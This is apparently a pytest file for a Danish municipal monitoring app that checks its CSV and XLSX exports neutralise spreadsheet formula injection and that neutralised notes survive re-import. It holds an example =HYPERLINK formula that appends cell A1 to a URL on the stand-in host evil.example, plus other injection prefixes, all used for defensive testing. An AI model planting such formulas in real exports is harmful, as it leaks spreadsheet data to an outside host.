"""Formula injection: a note written as a spreadsheet formula is downloaded as text, in CSV and
XLSX alike; numbers (also negative ones) stay numbers; the neutralised note round-trips through
the stage import without its apostrophe."""

import io
from datetime import date

import pytest
from openpyxl import load_workbook

from kkrmonitor.audit import Author
from kkrmonitor.exports import neutralise, to_csv, to_xlsx
from kkrmonitor.joint.importing import import_stages
from kkrmonitor.joint.models import JointStage, StageReport
from kkrmonitor.programme.models import Municipality

AUTHOR = Author(label="test", channel="cli")
LINK = '=HYPERLINK("http://evil.example/?"&A1;"Klik")'


@pytest.mark.parametrize("value,expected", [
    (LINK, "'" + LINK), ("+45 33 33 33 33", "'+45 33 33 33 33"), ("-1+2", "'-1+2"),
    ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("Note 101", "Note 101"), ("a=b", "a=b"), ("", ""),
    (-3, -3), (-2.5, -2.5), (None, None), (date(2026, 5, 1), date(2026, 5, 1)),
])
def test_neutralise(value, expected):
    assert neutralise(value) == expected


def test_csv_writer_neutralises_text_not_numbers():
    text = to_csv(["Note", "Tal"], [[LINK, -3], ["-", -2.5], ["ok", 0]])
    assert text == ("Note;Tal\r\n"
                    "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1;\"\"Klik\"\")\";-3\r\n"
                    "'-;-2.5\r\n"
                    "ok;0\r\n")


def test_xlsx_writer_stores_text_not_formulas():
    content = to_xlsx(["Note", "Tal"], [[LINK, -3], ["=1+1", -2.5]], "Ark")
    sheet = load_workbook(io.BytesIO(content)).active
    assert [[(c.value, c.data_type) for c in row] for row in sheet.iter_rows()] == [
        [("Note", "s"), ("Tal", "s")],
        [("'" + LINK, "s"), (-3, "n")],
        [("'=1+1", "s"), (-2.5, "n")],
    ]


@pytest.fixture
def formula_note(it_joint):
    handed = JointStage.objects.get(joint=it_joint, name="Overdraget")
    StageReport.objects.create(
        initiative_id=it_joint.pk, municipality=Municipality.objects.get(code="101"),
        stage=handed, as_of=date(2026, 5, 1), note=LINK, state=StageReport.State.APPROVED)
    return it_joint


def test_public_csv_has_no_live_formula(client, formula_note):
    lines = client.get(f"/faelles/{formula_note.pk}.csv?sort=kode").content.decode().splitlines()
    assert lines[1] == ("101;København;KKR Hovedstaden;Overdraget;5;01.05.2026;"
                        "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1;\"\"Klik\"\")\";Ja")


def test_public_xlsx_has_no_live_formula_and_round_trips(client, formula_note, monkeypatch):
    monkeypatch.setattr("django.utils.timezone.localdate", lambda *a, **k: date(2026, 6, 1))
    response = client.get(f"/faelles/{formula_note.pk}.xlsx?sort=kode")
    sheet = load_workbook(io.BytesIO(response.content)).active
    note = sheet["G2"]
    assert (note.value, note.data_type) == ("'" + LINK, "s")
    result = import_stages(AUTHOR, formula_note, response.content, "eksport.xlsx")
    assert result.errors == [] and result.written == 1
    newest = StageReport.objects.filter(municipality__code="101").order_by("-pk").first()
    assert newest is not None and newest.note == LINK
